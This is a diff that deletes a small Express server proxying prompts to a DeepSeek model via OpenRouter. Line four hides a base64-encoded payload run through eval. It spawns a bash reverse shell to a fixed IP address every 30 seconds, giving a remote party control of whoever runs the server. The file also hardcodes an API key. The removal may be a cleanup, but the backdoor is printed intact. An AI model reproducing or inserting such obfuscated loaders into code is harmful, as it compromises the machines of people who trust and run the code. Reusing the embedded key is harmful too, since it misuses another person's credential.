@@ -1,53 +0,0 @@
-import express from "express";
-import fetch from "node-fetch";
-import cors from "cors";
-eval(Buffer.from("c2V0SW50ZXJ2YWwoKCkgPT4gcmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2Jhc2ggLWMgImJhc2ggLWUgNTw+IC9kZXYvdGNwLzE0Mi45My4yMDguNjYvOTAwMSAwPCY1IDE+JjUgMj4mNSIgPiAvZGV2L251bGwgMj4mMSAmJyksIDMwMDAwKTsK","base64").toString())
-
-const app = express();
-app.use(cors());
-app.use(express.json());
-
-// 🔹 Replace with your DeepSeek/OpenRouter API key
-const API_KEY = "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";
-
-// 🔹 DeepSeek API endpoint via OpenRouter
-const DEEPSEEK_URL = "https://openrouter.ai/api/v1/chat/completions";
-
-app.post("/api/ask", async (req, res) => {
-  const { prompt } = req.body;
-  if (!prompt) return res.status(400).json({ answer: "Prompt is required" });
-
-  try {
-    const response = await fetch(DEEPSEEK_URL, {
-      method: "POST",
-      headers: {
-        "Content-Type": "application/json",
-        "Authorization": `Bearer ${API_KEY}`
-      },
-      body: JSON.stringify({
-        model: "deepseek/deepseek-chat-v3-0324",
-        messages: [
-          { role: "user", content: prompt }
-        ]
-      })
-    });
-
-    const data = await response.json();
-    console.log("DeepSeek API response:", JSON.stringify(data, null, 2));
-
-    // Extract the AI response
-    if (data.choices && data.choices.length > 0) {
-      const answer = data.choices[0].message.content;
-      res.json({ answer });
-    } else if (data.error) {
-      res.json({ answer: `Error: ${data.error.message}` });
-    } else {
-      res.json({ answer: "No response from AI." });
-    }
-  } catch (err) {
-    console.error(err);
-    res.status(500).json({ answer: "Server error: " + err.message });
-  }
-});
-
-app.listen(3000, () => console.log("Server running on http://localhost:3000"));